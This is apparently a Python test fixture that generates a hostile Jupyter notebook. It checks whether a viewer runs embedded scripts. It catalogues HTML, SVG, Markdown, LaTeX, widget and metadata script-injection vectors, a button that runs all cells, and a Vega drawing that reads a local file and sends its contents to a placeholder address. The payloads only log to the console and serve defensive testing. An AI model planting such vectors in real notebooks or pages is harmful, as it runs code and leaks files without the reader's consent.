"""A notebook that tries to run its author's code where it is opened, and an honest one."""

import base64

import anywidget
import ipywidgets
import nbformat
from ipywidgets.embed import dependency_state

STATE = "application/vnd.jupyter.widget-state+json"
VIEW = "application/vnd.jupyter.widget-view+json"
RAN = "ran uninvited: "  # begins what a script of the hostile notebook writes on the console
VEGA = "application/vnd.vega.v5+json"
BESIDE = "beside.json"  # a file in the notebook's folder
ELSEWHERE = "http://localhost:1/"  # where the notebook would send what stands in that file
COMMAND = "data-commandlinker-command"
ALIVE = f".jp-Notebook :is([{COMMAND}], .jp-RenderedVegaCommon5)"  # what is not to be on the page


def script(way):
    """What says that this way of bringing a script along has run it."""
    return f"console.error('{RAN}{way}')"


def image(way):
    return f'<img src="x:" onerror="{script(way)}">'


def html(way):
    """Each of the ways in which HTML runs a script by itself."""
    inner = f"<script>parent.{script(f'{way}, frame')}</script>".replace('"', "&quot;")
    return (
        f"<p>{way}</p><script>{script(f'{way}, script')}</script>{image(f'{way}, image')}"
        f'<svg onload="{script(f"{way}, svg")}"></svg>'
        f'<iframe srcdoc="{inner}"></iframe><iframe src="javascript:parent.{script(way)}"></iframe>'
        f'<details open ontoggle="{script(f"{way}, details")}"><summary>x</summary></details>'
        f'<input autofocus onfocus="{script(f"{way}, focus")}">'
        f'<style onload="{script(f"{way}, style")}"></style>'
    )


def svg(way):
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(f"{way}, onload")}">'
        f"<script>{script(f'{way}, script')}</script><text y='20'>{way}</text>"
        f"<foreignObject>{image(f'{way}, image')}</foreignObject></svg>"
    )


def button(way):
    """What runs all cells once it is pressed, whatever stands on it."""
    return f'<button {COMMAND}="notebook:run-all-cells">{way}</button>'


def drawing():
    """A drawing in Vega, which is data: it reads the file and asks elsewhere for an image."""
    read = {"name": "read", "url": BESIDE, "format": {"type": "json"}}
    address = {"signal": f"'{ELSEWHERE}' + datum.text"}
    image = {"url": address, "width": {"value": 9}, "height": {"value": 9}}
    mark = {"type": "image", "from": {"data": "read"}, "encode": {"enter": image}}
    schema = "https://vega.github.io/schema/vega/v5.json"
    return {"$schema": schema, "width": 50, "height": 50, "data": [read], "marks": [mark]}


class Scripted(anywidget.AnyWidget):
    """A widget whose code comes with it, as that of a lab does."""

    def __init__(self, way):
        ran, drawn = script(f"{way}, module"), script(f"{way}, render")
        super().__init__(_esm=f"{ran}\nexport default {{ render() {{ {drawn} }} }}")


def widgets():
    """Widgets that bring scripts along."""
    outputs = [bundle("application/javascript", script("widget Output, script"))]
    outputs.append(bundle("text/html", html("widget Output")))
    html_widget = ipywidgets.HTML(html("widget HTML"))
    seen = [Scripted("widget"), html_widget, ipywidgets.Output(outputs=outputs)]
    return seen, Scripted("unseen widget")


def bundle(mime, data, **metadata):
    return nbformat.v4.new_output("display_data", {mime: data}, metadata=metadata)


def view(widget):
    return bundle(VIEW, {"version_major": 2, "version_minor": 0, "model_id": widget.model_id})


def state(*widgets):
    """What a notebook's metadata keep of widgets."""
    states = dependency_state(widgets, drop_defaults=False)
    return {STATE: {"version_major": 2, "version_minor": 0, "state": states}}


def hostile():
    """The notebook, with every way that we know of in it."""
    flow = (
        f'```mermaid\nflowchart LR\n  a["{image("Mermaid").replace(chr(34), "#quot;")}"] --> b\n```'
    )
    texts = [
        html("Markdown"),
        button("Markdown button"),
        svg("Markdown SVG"),
        flow,
        f"# Heading {image('heading')}",
    ]
    drawn = base64.b64encode(svg("attachment").encode()).decode()
    seen, unseen = widgets()
    outputs = [
        bundle(VEGA, drawing()),
        bundle("text/html", button("HTML button")),
        bundle("text/html", html("HTML")),
        bundle("text/html", html("isolated HTML"), **{"text/html": {"isolated": True}}),
        bundle("image/svg+xml", svg("SVG")),
        bundle("image/svg+xml", svg("isolated SVG"), **{"image/svg+xml": {"isolated": True}}),
        bundle("text/markdown", html("Markdown output")),
        bundle("text/latex", rf"$\text{{{image('LaTeX')}}}$ {html('LaTeX')}"),
        bundle("application/javascript", script("JavaScript")),
        bundle("text/javascript", script("text/javascript")),
        bundle("application/vnd.jupyter.stderr", html("stderr")),
        bundle("text/plain", html("plain")),
        bundle("application/json", {html("JSON"): html("JSON")}),
        nbformat.v4.new_output("stream", text=html("stream")),
        nbformat.v4.new_output("error", ename="E", evalue="e", traceback=[html("error")]),
        *map(view, seen),
    ]
    cells = [nbformat.v4.new_markdown_cell(text) for text in texts]
    cells += [
        nbformat.v4.new_markdown_cell(
            "![drawn](attachment:drawn.svg)", attachments={"drawn.svg": {"image/svg+xml": drawn}}
        ),
        nbformat.v4.new_raw_cell(html("raw"), metadata={"format": "text/html"}),
        *(
            nbformat.v4.new_code_cell(
                "pass", execution_count=1, outputs=[output], metadata={"trusted": True}
            )
            for output in outputs
        ),
    ]
    return notebook(cells, title=html("title"), widgets=state(*seen, unseen))


def notebook(cells, **metadata):
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return nbformat.v4.new_notebook(
        cells=cells,
        metadata={"kernelspec": kernel, "language_info": {"name": "python"}, **metadata},
    )
